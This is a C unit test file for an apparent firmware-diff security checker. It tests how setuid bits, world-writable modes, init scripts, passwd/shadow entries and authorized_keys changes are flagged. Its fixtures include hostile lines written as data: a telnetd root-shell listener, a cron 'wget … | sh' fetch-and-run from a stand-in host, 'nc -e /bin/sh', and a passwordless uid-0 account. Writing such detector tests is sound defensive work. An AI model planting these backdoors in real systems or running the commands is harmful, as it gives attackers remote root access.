/* SPDX-License-Identifier: Apache-2.0 */
/* Rights, what is run, who may log in, scripts and other texts: planted changes and harmless ones. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>

#include "images/lines.h"
#include "images/rights.h"

static struct leaf
file(const char *path, const char *text)
{
	struct leaf l = { .kind = LEAF_FILE, .path = path, .have_mode = true, .mode = 0100644 };
	source_memory(&l.bytes, view_str(text));
	return l;
}

static const struct page_line *
line(const struct page *p, enum finding_id id, const char *part)
{
	for (size_t i = 0; i < page_count(p); i++) {
		const struct page_line *l = page_at(p, i);
		if (l->id == id && (strstr(l->text, part) || strstr(l->evidence, part)))
			return l;
	}
	return NULL;
}

static struct page *
texts(const char *path, const char *old, const char *new, enum lines_told *ret_told)
{
	struct page *p = page_new();
	struct leaf a = file(path, old ? old : ""), b = file(path, new);
	assert_non_null(p);
	assert_int_equal(lines_page(old ? &a : NULL, &b, p, ret_told), 0);
	return p;
}

/* ---- rights ---- */

static struct page *
rights(const struct leaf *old, const struct leaf *new)
{
	struct page *p = page_new();
	assert_int_equal(rights_page(old, new, p), 0);
	return p;
}

static void
rights_that_grew(void **state)
{
	(void)state;
	struct leaf a = file("bin/x", ""), b = a;
	struct page *p;
	b.mode = 0104755;
	p = rights(&a, &b);
	const struct page_line *l = line(p, FINDING_CHG_SETUID, "runs as user 0, mode 4755 (0644 0:0 before)");
	assert_true(l && l->block == PAGE_RED && l->sign == PAGE_CHANGED && l->severity == FINDING_WARNING);
	assert_int_equal(page_count(p), 1);
	page_free(p);
	p = rights(NULL, &b);
	assert_non_null(line(p, FINDING_CHG_SETUID, "(added)"));
	page_free(p);
	p = rights(&b, &b); /* as it was */
	assert_int_equal(page_count(p), 0);
	page_free(p);
	p = rights(&b, &a); /* given up */
	assert_int_equal(page_count(p), 1);
	assert_non_null(line(p, FINDING_CHG_FILES, "mode 4755 of 0:0 -> 0644 of 0:0"));
	page_free(p);
	a = b;
	a.uid = 33;
	p = rights(&a, &b); /* another user's now */
	assert_non_null(line(p, FINDING_CHG_SETUID, "runs as user 0"));
	page_free(p);
	a.have_mode = false;
	p = rights(&a, &b); /* not known is not harmless */
	assert_non_null(line(p, FINDING_CHG_SETUID, "rights before unknown"));
	page_free(p);
	a = file("bin/x", "");
	b = a;
	b.mode = 0102755;
	b.gid = 5;
	b.have_caps = true;
	p = rights(&a, &b);
	assert_non_null(line(p, FINDING_CHG_SETUID, "runs as group 5"));
	assert_non_null(line(p, FINDING_CHG_CAPABILITY, "none before"));
	page_free(p);
	b.mode = 0102644; /* locking, not lending */
	b.have_caps = false;
	p = rights(&a, &b);
	assert_int_equal(page_count(p), 1);
	assert_non_null(line(p, FINDING_CHG_FILES, "mode 0644 of 0:0 -> 2644 of 0:5"));
	page_free(p);
}

static void
what_anybody_may_write(void **state)
{
	(void)state;
	struct leaf a = file("etc/x", ""), b = a;
	b.mode = 0100666;
	struct page *p = rights(&a, &b);
	assert_non_null(line(p, FINDING_CHG_WORLD_WRITABLE, "a file that anybody may write, mode 0666"));
	page_free(p);
	b.kind = LEAF_FOLDER;
	b.mode = 041777; /* /tmp */
	p = rights(NULL, &b);
	assert_int_equal(page_count(p), 0);
	page_free(p);
	b.mode = 040777;
	p = rights(NULL, &b);
	assert_non_null(line(p, FINDING_CHG_WORLD_WRITABLE, "a folder"));
	page_free(p);
	b.kind = LEAF_LINK; /* its mode means nothing */
	b.mode = 0120777;
	p = rights(NULL, &b);
	assert_int_equal(page_count(p), 0);
	page_free(p);
}

/* The bytes of an inode that say so are called explained: then something has to tell. */
static void
owners_and_modes(void **state)
{
	(void)state;
	struct leaf a = file("etc/init.d/rcS", ""), b = a;
	b.uid = 33;
	struct page *p = rights(&a, &b);
	const struct page_line *l = line(p, FINDING_CHG_FILES, "mode 0644 of 0:0 -> 0644 of 33:0");
	assert_true(l && l->block == PAGE_FILES && l->sign == PAGE_CHANGED);
	assert_int_equal(page_count(p), 1);
	page_free(p);
	b.kind = LEAF_FOLDER;
	a.kind = LEAF_FOLDER;
	b.uid = 0;
	b.mode = a.mode | 0020;
	p = rights(&a, &b);
	assert_non_null(line(p, FINDING_CHG_FILES, "mode 0644 of 0:0 -> 0664 of 0:0"));
	page_free(p);
	b.kind = a.kind = LEAF_LINK;
	p = rights(&a, &b);
	assert_int_equal(page_count(p), 0);
	page_free(p);
	b.kind = a.kind = LEAF_FILE;
	a.have_mode = false; /* nobody knows what it was */
	p = rights(&a, &b);
	assert_int_equal(page_count(p), 0);
	page_free(p);
}

static void
devices(void **state)
{
	(void)state;
	struct leaf a = { .kind = LEAF_DEVICE, .path = "dev/x", .have_mode = true, .mode = 020600, .rdev = UINT64_C(1) << 32 | 3 }, b = a;
	b.rdev = UINT64_C(1) << 32 | 1;
	struct page *p = rights(&a, &b);
	assert_non_null(line(p, FINDING_CHG_DEVICE, "device 1:1, all of memory (another one before)"));
	page_free(p);
	p = rights(&a, &a);
	assert_int_equal(page_count(p), 0);
	page_free(p);
}

/* ---- what is run ---- */

static void
init_lines(void **state)
{
	(void)state;
	enum lines_told told;
	struct page *p = texts("root/etc/init.d/S50net", "#!/bin/sh\nstart\nend\n", "#!/bin/sh\nstart\n/usr/sbin/telnetd -l /bin/sh &\nend\n", &told);
	assert_true(told);
	const struct page_line *l = line(p, FINDING_CHG_INIT, "line 3 new");
	assert_true(l && l->block == PAGE_RED && l->sign == PAGE_ADDED && l->offset == 16 && l->have_offset);
	assert_string_equal(l->evidence, "/usr/sbin/telnetd -l /bin/sh &");
	assert_non_null(line(p, FINDING_CHG_LISTENER, "line 3, new: starts something that lets others in"));
	assert_int_equal(page_count(p), 2);
	page_free(p);
	/* In a comment it is only spoken of. */
	p = texts("etc/inittab", "a\n", "a\n# telnetd -l /bin/sh\n", &told);
	assert_null(line(p, FINDING_CHG_LISTENER, ""));
	assert_int_equal(page_count(p), 1);
	assert_int_equal(page_at(p, 0)->block, PAGE_FILES);
	page_free(p);
	p = texts("etc/init.d/x", "#!/bin/sh\n", "#!/bin/evil\n", &told); /* no remark */
	assert_int_equal(page_at(p, 0)->block, PAGE_RED);
	page_free(p);
	p = texts("etc/cron.d/x", NULL, "* * * * * root wget -O- http://x.example | sh\n", &told);
	assert_non_null(line(p, FINDING_CHG_SHELL, "wget"));
	l = line(p, FINDING_CHG_INIT, "line 1 new");
	assert_true(l && l->sign == PAGE_ADDED);
	page_free(p);
	struct leaf link = { .kind = LEAF_LINK, .path = "etc/rcS.d/S99dbg", .link = "/tmp/x" };
	p = page_new();
	assert_int_equal(lines_page(NULL, &link, p, &told), 0);
	assert_non_null(line(p, FINDING_CHG_INIT, "link to /tmp/x"));
	page_free(p);
	struct leaf bin = { .kind = LEAF_FILE, .path = "sbin/init" };
	source_memory(&bin.bytes, view_of("\x7f" "ELF\0\0\0\0", 8));
	p = page_new();
	assert_int_equal(lines_page(&bin, &bin, p, &told), 0);
	assert_non_null(line(p, FINDING_CHG_INIT, "changed, 8 bytes that are no text"));
	page_free(p);
}

static void
many_lines_are_counted(void **state)
{
	(void)state;
	char text[4096] = "";
	enum lines_told told;
	for (unsigned i = 0; i < 100; i++)
		snprintf(text + strlen(text), sizeof text - strlen(text), "line %u x\n", i);
	struct page *p = texts("etc/init.d/x", "", text, &told);
	assert_int_equal(page_count(p), LINES_MANY + 1);
	assert_non_null(line(p, FINDING_CHG_INIT, "100 lines new, 0 gone; 24 of them told"));
	page_free(p);
	p = texts("share/doc/x", "a\n", text, &told);
	assert_int_equal(page_count(p), LINES_FEW + 1);
	assert_int_equal(page_at(p, 0)->severity, FINDING_NOTICE);
	page_free(p);
}

/* What is behind the cut was not read by anybody. */
static void
a_line_that_is_cut_is_not_all(void **state)
{
	(void)state;
	char text[20 << 10];
	enum lines_told told;
	memset(text, 'x', sizeof text);
	text[sizeof text - 1] = '\0';
	page_free(texts("etc/x.conf", "a\n", text, &told));
	assert_int_equal(told, LINES_SOME);
	page_free(texts("etc/x.conf", text, "a\n", &told));
	assert_int_equal(told, LINES_SOME);
	text[PAGE_EVIDENCE_MAX] = '\0';
	page_free(texts("etc/x.conf", "a\n", text, &told));
	assert_int_equal(told, LINES_SOME);
	text[PAGE_EVIDENCE_MAX - 1] = '\0';
	page_free(texts("etc/x.conf", "a\n", text, &told));
	assert_int_equal(told, LINES_ALL);
}

static void
scripts_and_texts(void **state)
{
	(void)state;
	enum lines_told told;
	struct page *p = texts("usr/bin/check", "#!/bin/sh\nif [ $a = 1 ]; then\n", "#!/bin/sh\nif [ $a = 0 ]; then\n", &told);
	const struct page_line *l = line(p, FINDING_CHG_TEXT, "if [ $a = 0 ]");
	assert_true(l && l->block == PAGE_FILES && l->severity == FINDING_WARNING && l->sign == PAGE_ADDED);
	l = line(p, FINDING_CHG_TEXT, "if [ $a = 1 ]");
	assert_true(l && l->sign == PAGE_GONE && told);
	page_free(p);
	p = texts("usr/share/x", "same\n", "same", &told); /* nothing is left out */
	assert_non_null(line(p, FINDING_CHG_TEXT, "only the end of the last line changed"));
	page_free(p);
	p = texts("usr/bin/new", NULL, "#!/bin/sh\nnc -e /bin/sh 1\n", &told);
	assert_non_null(line(p, FINDING_CHG_SHELL, "nc -e"));
	assert_int_equal(page_count(p), 1);
	page_free(p);
	/* Documentation may speak of listeners. */
	p = texts("usr/share/doc/x", "a\n", "telnetd -l\n", &told);
	assert_null(line(p, FINDING_CHG_LISTENER, ""));
	page_free(p);
	struct leaf a = { .kind = LEAF_FILE, .path = "x.bin" }, b = a;
	source_memory(&a.bytes, view_of("\0\1", 2));
	source_memory(&b.bytes, view_of("\0\2", 2));
	p = page_new();
	assert_int_equal(lines_page(&a, &b, p, &told), 0);
	assert_false(told);
	assert_int_equal(page_count(p), 0);
	page_free(p);
}

/* ---- who may log in ---- */

static void
accounts(void **state)
{
	(void)state;
	enum lines_told told;
	static const char old[] = "root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1::/:/bin/false\nwww:x:33:33::/:/bin/false\n";
	struct page *p = texts("etc/passwd", old,
	    "www:x:33:33:web:/:/bin/false\nroot:x:0:0:root:/root:/bin/sh\ndaemon:x:0:1::/:/bin/sh\nadm1n::0:0::/:/bin/sh\n", &told);
	assert_true(told);
	assert_non_null(line(p, FINDING_CHG_USER, "account adm1n added: user id 0, shell /bin/sh, password none asked for"));
	assert_non_null(line(p, FINDING_CHG_USER, "user id of daemon: 0, before 1"));
	assert_non_null(line(p, FINDING_CHG_USER, "shell of daemon: /bin/sh, before /bin/false"));
	assert_int_equal(page_count(p), 3); /* the order and a comment are no rights */
	page_free(p);
	p = texts("etc/passwd", old, "root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1::/:/bin/false\n", &told);
	assert_true(line(p, FINDING_CHG_USER, "account www removed")->sign == PAGE_GONE);
	page_free(p);
	p = texts("etc/shadow", "root:!:19000:0:::::\na:$6$x$y:1::::::\n", "root::19000:0:::::\na:$6$x$z:1::::::\n", &told);
	assert_non_null(line(p, FINDING_CHG_PASSWORD, "password of root: none asked for, before locked"));
	assert_non_null(line(p, FINDING_CHG_PASSWORD, "password of a: set, before set"));
	assert_int_equal(page_count(p), 2);
	page_free(p);
	p = texts("root/.ssh/authorized_keys", "", "ssh-ed25519 AAAA me\n", &told);
	assert_non_null(line(p, FINDING_CHG_USER, "ssh-ed25519 AAAA me"));
	page_free(p);
}

static void
roles(void **state)
{
	(void)state;
	static const struct {
		const char *path;
		enum leaf_role role;
	} rows[] = { { "etc/inittab", LEAF_ROLE_INIT }, { "a/b/etc/inittab", LEAF_ROLE_INIT }, { "etc/inittab.txt", LEAF_ROLE_NONE },
		{ "xetc/inittab", LEAF_ROLE_NONE }, { "etc/rc3.d/S99x", LEAF_ROLE_INIT }, { "lib/systemd/system/x.service", LEAF_ROLE_INIT },
		{ "etc/systemd/system/a.wants/x.service", LEAF_ROLE_INIT }, { "init.qcom.rc", LEAF_ROLE_INIT }, { "x/init.rc", LEAF_ROLE_INIT },
		{ "etc/shadow", LEAF_ROLE_SHADOW }, { "etc/sudoers.d/x", LEAF_ROLE_ACCESS }, { "home/u/.ssh/authorized_keys", LEAF_ROLE_ACCESS },
		{ "lib/udev/rules.d/x.rules", LEAF_ROLE_INIT }, { "etc", LEAF_ROLE_NONE }, { "", LEAF_ROLE_NONE }, { "usr/bin/passwd", LEAF_ROLE_NONE },
		{ "etc/udhcpc.script", LEAF_ROLE_INIT }, { "etc/profile.d/x.sh", LEAF_ROLE_INIT } };
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
		if (leaf_role(rows[i].path) != rows[i].role)
			fail_msg("%s: %d", rows[i].path, leaf_role(rows[i].path));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(rights_that_grew),
		cmocka_unit_test(what_anybody_may_write),
		cmocka_unit_test(owners_and_modes), cmocka_unit_test(devices),
		cmocka_unit_test(init_lines),
		cmocka_unit_test(many_lines_are_counted),
		cmocka_unit_test(a_line_that_is_cut_is_not_all),
		cmocka_unit_test(scripts_and_texts),
		cmocka_unit_test(accounts),
		cmocka_unit_test(roles),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
